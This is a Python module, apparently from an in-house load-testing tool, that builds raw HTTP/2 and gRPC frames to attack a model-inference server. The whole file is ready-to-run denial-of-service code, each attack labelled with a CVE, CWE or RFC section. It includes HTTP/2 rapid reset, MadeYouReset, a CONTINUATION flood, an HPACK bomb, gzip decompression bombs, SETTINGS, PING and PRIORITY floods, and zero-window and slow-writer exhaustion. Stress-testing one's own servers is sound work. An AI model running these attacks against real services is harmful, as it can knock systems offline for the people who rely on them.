"""Attacks on gRPC and on HTTP/2 below it. Blobs are made once and sent again: the sender must not be the slow side."""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Iterator
from functools import lru_cache

from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from tools.siege.attack import Attack, Pause, Port, Step, Window, attack
from tools.siege.http2_wire import (
    ACK,
    CONTINUATION,
    DATA,
    DEFAULT_WINDOW,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LAST_STREAM,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    SETTINGS,
    call_block,
    data_frames,
    field,
    frame,
    grpc_message,
    headers,
    integer,
    literal,
    reset,
    settings,
    varint,
    window_update,
)
from tools.siege.models import ATTACKED, LARGE, LARGE_ANSWER_BYTES

GREETING = PREFACE + settings((INITIAL_WINDOW_SIZE, (1 << 31) - 1)) + window_update(0, (1 << 31) - 1 - DEFAULT_WINDOW)
OPEN_CALLS = 1000
"""Of one connection: as many as servers let a peer have at a time."""
CHUNK_STREAMS = 100
BLOB_BYTES = 64 << 10
_PATTERNS = (b"\x48\x01", b"\x00\x00", b"\x3a\x00")
"""The fields of two bytes that cost a parser most: an unknown number, the number 0 that is none, and an empty tensor."""


def _infer_message(model: bytes, *, shape: int = 4) -> bytes:
    """A ModelInferRequest for a model with two vectors."""
    inputs = b"".join(
        field(5, field(1, name) + field(2, b"FP32") + field(3, varint(shape))) for name in (b"INPUT0", b"INPUT1")
    )
    return field(1, model) + inputs + field(7, struct.pack("<4f", 1, 2, 3, 4)) * 2


def _large_message() -> bytes:
    described = field(5, field(1, b"SIZE") + field(2, b"INT32") + field(3, varint(1)))
    return field(1, LARGE) + described + field(7, struct.pack("<i", LARGE_ANSWER_BYTES // 4))


def _streams(begin: int, count: int = CHUNK_STREAMS) -> range:
    """The ids of a client's streams from its *begin*-th on."""
    return range(2 * begin + 1, 2 * (begin + count) + 1, 2)


def _chunks_of_streams() -> Iterator[int]:
    """Where each chunk begins, until a connection's ids are used up."""
    yield from range(0, (LAST_STREAM - 1) // 2 - CHUNK_STREAMS, CHUNK_STREAMS)


def _repeated(piece: bytes, size: int = BLOB_BYTES) -> bytes:
    return piece * max(1, size // len(piece))


def _forever(blob: bytes) -> Iterator[Step]:
    while True:
        yield blob


# ------------------------------------------------------------------------------------------------- messages


def gzip_repeated(head: bytes, piece: bytes, times: int) -> bytes:
    """What gzip makes of *head* and *times* times *piece*, without going through all of it."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    compressed_head = deflater.compress(head) + deflater.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing refers to what was before, so that the same bytes may follow any number of times.
    compressed_piece = deflater.compress(piece) + deflater.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.crc32(head)
    for _ in range(times):
        checksum = zlib.crc32(piece, checksum)
    trailer = struct.pack("<LL", checksum, (len(head) + times * len(piece)) & 0xFFFFFFFF)
    gzip_head = b"\x1f\x8b\x08\0\0\0\0\0\x02\xff"  # RFC 1952, section 2.3
    return gzip_head + compressed_head + compressed_piece * times + deflater.flush() + trailer


@lru_cache
def _wide_body(pattern: bytes, size: int, *, is_compressed: bool) -> bytes:
    head = field(1, ATTACKED)
    if not is_compressed:
        return grpc_message(head + pattern * (size // len(pattern)))
    piece = pattern * (1_000_000 // len(pattern))
    return grpc_message(gzip_repeated(head, piece, size // len(piece)), is_compressed=True)


def _wide(size: int, *, is_compressed: bool = False, method: str = "ModelInfer") -> Iterator[Step]:
    yield GREETING
    header_block = call_block(method, is_compressed=is_compressed)
    for stream in range(1, LAST_STREAM, 2):
        body = _wide_body(_PATTERNS[stream // 2 % len(_PATTERNS)], size, is_compressed=is_compressed)
        yield Window(len(body))
        yield headers(stream, header_block) + data_frames(stream, body)


@attack("RFC 9113, 10.5", Port.GRPC)
def wide_protobuf_24k(dice: random.Random) -> Iterator[Step]:
    """Messages of 24 KB that consist of fields of two bytes."""
    return _wide(24_000)


@attack("RFC 9113, 10.5", Port.GRPC)
def wide_protobuf_2m(dice: random.Random) -> Iterator[Step]:
    """Messages of 2 MB that consist of fields of two bytes."""
    return _wide(2_000_000)


@attack("CWE-409", Port.GRPC)
def wide_protobuf_24k_gzip(dice: random.Random) -> Iterator[Step]:
    """Messages of 24 KB that become 20 MB of fields of two bytes."""
    return _wide(20_000_000, is_compressed=True)


@attack("CWE-409", Port.GRPC)
def wide_protobuf_2m_gzip(dice: random.Random) -> Iterator[Step]:
    """Messages of 2 MB that become 2 GB of fields of two bytes."""
    return _wide(2_000_000_000, is_compressed=True)


@attack("RFC 9113, 10.5", Port.GRPC)
def wide_protobuf_stream(dice: random.Random) -> Iterator[Step]:
    """The wide messages of 2 MB on ModelStreamInfer."""
    return _wide(2_000_000, method="ModelStreamInfer")


@lru_cache
def _wide_load() -> bytes:
    return grpc_message(field(2, ATTACKED) + _repeated(field(3, field(1, b"k")), 2_000_000))


@attack("CWE-770", Port.GRPC)
def wide_load(dice: random.Random) -> Iterator[Step]:
    """Requests to load a model, of 2 MB that consist of a name and parameters."""
    yield GREETING
    header_block = call_block("RepositoryModelLoad")
    for stream in range(1, LAST_STREAM, 2):
        yield Window(len(_wide_load()))
        yield headers(stream, header_block) + data_frames(stream, _wide_load())


@lru_cache
def _bomb() -> bytes:
    piece = bytes(1 << 20)
    return grpc_message(gzip_repeated(b"\x3a" + varint(256 << 20), piece, 256), is_compressed=True)


@attack("CWE-409", Port.GRPC)
def grpc_gzip_bomb(dice: random.Random) -> Iterator[Step]:
    """Compressed messages of 256 KB that become a tensor of 256 MB."""
    yield GREETING
    header_block = call_block("ModelInfer", is_compressed=True)
    for stream in range(1, LAST_STREAM, 2):
        yield Window(len(_bomb()))
        yield headers(stream, header_block) + data_frames(stream, _bomb())


# ------------------------------------------------------------------------------------------------- control frames


@lru_cache
def _open_calls(count: int = OPEN_CALLS) -> bytes:
    """HEADERS of calls whose messages do not follow."""
    return b"".join(headers(stream, call_block("ModelInfer")) for stream in _streams(0, count))


@attack("RFC 9113, 6.5.2", Port.GRPC)
def settings_initial_window_entries(dice: random.Random) -> Iterator[Step]:
    """SETTINGS with 10,900 values of INITIAL_WINDOW_SIZE each, while 1,000 calls are open."""
    yield GREETING + _open_calls()
    entries = ((INITIAL_WINDOW_SIZE, 1000), (INITIAL_WINDOW_SIZE, 2000)) * 5450
    yield from _forever(settings(*entries))


@attack("CVE-2019-9515", Port.GRPC)
def settings_flood(dice: random.Random) -> Iterator[Step]:
    """Empty SETTINGS, each of which wants an acknowledgement."""
    yield GREETING
    yield from _forever(_repeated(settings()))


@attack("RFC 9113, 6.5.3", Port.GRPC)
def settings_ack_flood(dice: random.Random) -> Iterator[Step]:
    """Acknowledgements of SETTINGS that were never sent."""
    yield GREETING
    yield from _forever(_repeated(frame(SETTINGS, ACK)))


@attack("CVE-2019-9512", Port.GRPC)
def ping_flood(dice: random.Random) -> Iterator[Step]:
    """PING as fast as can be."""
    yield GREETING
    yield from _forever(_repeated(frame(PING, payload=bytes(8))))


@attack("RFC 9113, 6.7", Port.GRPC)
def ping_ack_flood(dice: random.Random) -> Iterator[Step]:
    """Acknowledgements of pings that were never sent."""
    yield GREETING
    yield from _forever(_repeated(frame(PING, ACK, payload=bytes(8))))


@attack("RFC 9113, 6.9", Port.GRPC)
def window_update_flood(dice: random.Random) -> Iterator[Step]:
    """WINDOW_UPDATE of one byte, for the connection and for a stream that has ended."""
    yield PREFACE + settings() + headers(1, call_block("ServerLive")) + data_frames(1, grpc_message(b""))
    yield from _forever(_repeated(window_update(0, 1) + window_update(1, 1)))


@attack("RFC 9113, 6.9", Port.GRPC)
def window_update_waiting_answers(dice: random.Random) -> Iterator[Step]:
    """WINDOW_UPDATE of one byte for the connection, while 1,000 answers wait for the windows of their streams."""
    message = grpc_message(_infer_message(ATTACKED))
    yield PREFACE + settings((INITIAL_WINDOW_SIZE, 0))
    for stream in _streams(0, OPEN_CALLS):
        yield Window(len(message))
        yield headers(stream, call_block("ModelInfer")) + data_frames(stream, message)
    yield Pause(0.5)
    yield from _forever(_repeated(window_update(0, 1)))


@attack("RFC 9113, 5.3", Port.GRPC)
def priority_flood(dice: random.Random) -> Iterator[Step]:
    """PRIORITY for streams that do not exist (CVE-2019-9513 where a peer builds a tree of them)."""
    yield GREETING
    blob = b"".join(frame(PRIORITY, 0, stream, struct.pack(">LB", 0, 1)) for stream in _streams(0, 4000))
    yield from _forever(blob)


@attack("RFC 9113, 5.5", Port.GRPC)
def unknown_frames(dice: random.Random) -> Iterator[Step]:
    """Frames of a type that nobody knows, which have to be ignored."""
    yield GREETING
    yield from _forever(_repeated(frame(0xFB, 0xFF, 1)))


# ------------------------------------------------------------------------------------------------- DATA


def _endless_message(pieces: bytes, octets: int, chunks_per_stream: int) -> Iterator[Step]:
    """Send *pieces*, DATA frames for stream 0, as parts of messages that never end."""
    yield GREETING
    stream = 1
    while stream < LAST_STREAM:
        yield Window(5)
        yield headers(stream, call_block("ModelInfer"))
        yield frame(DATA, 0, stream, struct.pack(">BL", 0, 1 << 30))
        blob = pieces.replace(_STREAM_MARK, struct.pack(">L", stream))
        for _ in range(chunks_per_stream):
            yield Window(octets)
            yield blob
        yield reset(stream)
        stream += 2


_STREAM_MARK = b"\x7b\x7b\x7d\x7d"
"""Where a stream's id is put in; nothing else in a blob looks like it."""


def _marked(flags: int, payload: bytes) -> bytes:
    return struct.pack(">L", len(payload))[1:] + struct.pack(">BB", DATA, flags) + _STREAM_MARK + payload


@attack("CVE-2019-9511", Port.GRPC)
def one_byte_data(dice: random.Random) -> Iterator[Step]:
    """A message of 1 GB in DATA frames of one byte."""
    return _endless_message(_marked(0, b"x") * 6000, 6000, 500)


@attack("CVE-2019-9518", Port.GRPC)
def empty_data(dice: random.Random) -> Iterator[Step]:
    """DATA without a byte and without an end."""
    return _endless_message(_marked(0, b"") * 7000, 0, 1 << 30)


@attack("RFC 9113, 6.1", Port.GRPC)
def padded_data(dice: random.Random) -> Iterator[Step]:
    """DATA frames of one byte and 254 bytes of padding."""
    return _endless_message(_marked(PADDED, b"\xfex" + bytes(254)) * 240, 240 * 256, 60)


# ------------------------------------------------------------------------------------------------- headers


@lru_cache
def _tiny_headers() -> bytes:
    return call_block("ModelInfer") + literal(b"a", b"b") * 1493


@attack("RFC 9113, 10.5.1", Port.GRPC)
def many_headers_grpc(dice: random.Random) -> Iterator[Step]:
    """Calls with 1,500 headers, each call with another list."""
    yield GREETING
    for chunk in _chunks_of_streams():
        yield b"".join(
            headers(stream, _tiny_headers() + literal(b"n", b"%d" % stream), ends=True)
            for stream in _streams(chunk, 10)
        )


@attack("CVE-2024-27316", Port.GRPC)
def continuation_flood(dice: random.Random) -> Iterator[Step]:
    """A header block that goes on and on in CONTINUATION frames of one byte."""
    yield GREETING + frame(HEADERS, 0, 1, call_block("ModelInfer"))
    yield from _forever(_repeated(frame(CONTINUATION, 0, 1, b"\x90")))


@attack("CVE-2016-1544, CVE-2016-6581", Port.GRPC)
def hpack_bomb(dice: random.Random) -> Iterator[Step]:
    """One entry of 4,000 bytes in the table, and 12,000 references to it in each call's headers."""
    yield GREETING
    entry = literal(b"bomb", bytes(3900), first=0x40)
    yield headers(1, call_block("ServerLive") + entry) + data_frames(1, grpc_message(b""))
    for chunk in _chunks_of_streams():
        yield b"".join(
            headers(stream + 2, call_block("ServerLive") + b"\xbe" * 12_000, ends=True) for stream in _streams(chunk, 5)
        )


@lru_cache
def _huffman_blocks() -> list[bytes]:
    encoder = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH)
    values = [encoder.encode(bytes(random.Random(seed).choices(b"\\<>{}|~^`#$", k=8000))) for seed in range(20)]
    return [call_block("ServerLive") + b"\x00\x01a" + integer(len(value), 7, 0x80) + value for value in values]


@attack("RFC 7541, 5.2", Port.GRPC)
def huffman_headers(dice: random.Random) -> Iterator[Step]:
    """Headers of 8,000 bytes in Huffman's code, those with the longest codes, and no two calls with the same."""
    yield GREETING
    for chunk in _chunks_of_streams():
        yield b"".join(
            headers(stream, dice.choice(_huffman_blocks()) + literal(b"n", b"%d" % stream), ends=True)
            for stream in _streams(chunk, 10)
        )


# ------------------------------------------------------------------------------------------------- resets


@lru_cache(maxsize=64)
def _reset_streams(begin: int) -> bytes:
    return b"".join(headers(stream, call_block("ModelInfer")) + reset(stream) for stream in _streams(begin))


@attack("CVE-2023-44487", Port.GRPC)
def rapid_reset(dice: random.Random) -> Iterator[Step]:
    """Calls that are reset as soon as they are opened."""
    yield GREETING
    yield from (_reset_streams(chunk) for chunk in _chunks_of_streams())


@lru_cache(maxsize=64)
def _provoked_streams(begin: int) -> bytes:
    """Whole requests, each followed by a frame for which the server itself has to reset the stream."""
    message = data_frames(1, grpc_message(_infer_message(ATTACKED)))[9:]
    provocations = (
        lambda stream: window_update(stream, 0),
        lambda stream: window_update(stream, (1 << 31) - 1),
        lambda stream: frame(DATA, 0, stream, b"x"),
    )
    return b"".join(
        headers(stream, call_block("ModelInfer"))
        + frame(DATA, END_STREAM, stream, message)
        + provocations[stream // 2 % len(provocations)](stream)
        for stream in _streams(begin)
    )


@attack("CVE-2025-8671", Port.GRPC)
def made_you_reset(dice: random.Random) -> Iterator[Step]:
    """Whole requests, and behind each a frame that makes the server reset it: windows that overflow, DATA behind the end."""
    yield GREETING
    for chunk in _chunks_of_streams():
        blob = _provoked_streams(chunk)
        yield Window(len(blob))
        yield blob


# ------------------------------------------------------------------------------------------------- slowness and hoarding


@lru_cache(maxsize=64)
def _large_calls(begin: int) -> bytes:
    message = grpc_message(_large_message())
    return b"".join(
        headers(stream, call_block("ModelInfer")) + data_frames(stream, message) for stream in _streams(begin)
    )


def _unread_calls() -> Iterator[Step]:
    for begin in range(0, OPEN_CALLS, CHUNK_STREAMS):
        yield _large_calls(begin)
        yield Pause(0.05)


@attack("CVE-2019-9517", Port.GRPC)
def zero_window_readers(dice: random.Random) -> Iterator[Step]:
    """1,000 calls with answers of 256 KB, and windows of no bytes for them."""
    yield PREFACE + settings((INITIAL_WINDOW_SIZE, 0))
    yield from _unread_calls()


@attack("CVE-2019-9517", Port.GRPC, reads=False)
def unread_answers_grpc(dice: random.Random) -> Iterator[Step]:
    """1,000 calls with answers of 256 KB, all windows open, and nobody reads the socket."""
    yield GREETING
    yield from _unread_calls()


@attack("CVE-2019-9511", Port.GRPC)
def one_byte_windows(dice: random.Random) -> Iterator[Step]:
    """100 calls with answers of 256 KB whose windows open by one byte at a time."""
    yield PREFACE + settings((INITIAL_WINDOW_SIZE, 0)) + window_update(0, LAST_STREAM - DEFAULT_WINDOW)
    yield _large_calls(0)
    yield Pause(0.5)
    blob = b"".join(window_update(stream, 1) for stream in _streams(0))
    yield from _forever(blob * 10)


@attack("RFC 9113, 10.5", Port.GRPC)
def unfinished_messages(dice: random.Random) -> Iterator[Step]:
    """1,000 messages of which all but the last byte is sent, 1 MB each."""
    yield GREETING
    body = grpc_message(bytes(1 << 20))[:-1]
    for stream in _streams(0, OPEN_CALLS):
        yield Window(len(body))
        yield headers(stream, call_block("ModelInfer")) + data_frames(stream, body, ends=False)


@attack("RFC 9113, 10.5", Port.GRPC)
def slow_writers_grpc(dice: random.Random) -> Iterator[Step]:
    """1,000 messages of which a byte comes every now and then."""
    yield GREETING + _open_calls()
    yield b"".join(frame(DATA, 0, stream, struct.pack(">BL", 0, 1 << 20)) for stream in _streams(0, OPEN_CALLS))
    yield Window(5 * OPEN_CALLS)
    while True:
        yield Pause(0.2)
        yield Window(OPEN_CALLS)
        yield b"".join(frame(DATA, 0, stream, b"x") for stream in _streams(0, OPEN_CALLS))


@attack("RFC 9113, 5.1.2", Port.GRPC)
def idle_streams(dice: random.Random) -> Iterator[Step]:
    """1,000 calls that are opened, and nothing more."""
    yield GREETING + _open_calls()


@attack("RFC 9113, 5.1.2", Port.GRPC)
def idle_infer_streams(dice: random.Random) -> Iterator[Step]:
    """1,000 bidirectional streams that are opened, and nothing more."""
    yield GREETING
    yield b"".join(headers(stream, call_block("ModelStreamInfer")) for stream in _streams(0, OPEN_CALLS))


@lru_cache(maxsize=64)
def _index_calls(begin: int) -> bytes:
    body = grpc_message(b"")
    return b"".join(
        headers(stream, call_block("RepositoryIndex")) + data_frames(stream, body) for stream in _streams(begin, 20)
    )


@attack("CWE-770", Port.GRPC)
def repository_index_flood_grpc(dice: random.Random) -> Iterator[Step]:
    """Calls of RepositoryIndex, as many as may be open at a time and more."""
    yield GREETING
    for chunk in _chunks_of_streams():
        yield Window(100)
        yield _index_calls(chunk)


@attack("RFC 9113, 3.4", Port.GRPC, sockets=20)
def unfinished_prefaces(dice: random.Random) -> Iterator[Step]:
    """Connections, 20 for each, whose preface of HTTP/2 comes byte by byte."""
    for at in range(len(PREFACE) - 1):
        yield PREFACE[at : at + 1]
        yield Pause(0.3)


ATTACKS = tuple(value for value in tuple(globals().values()) if isinstance(value, Attack))
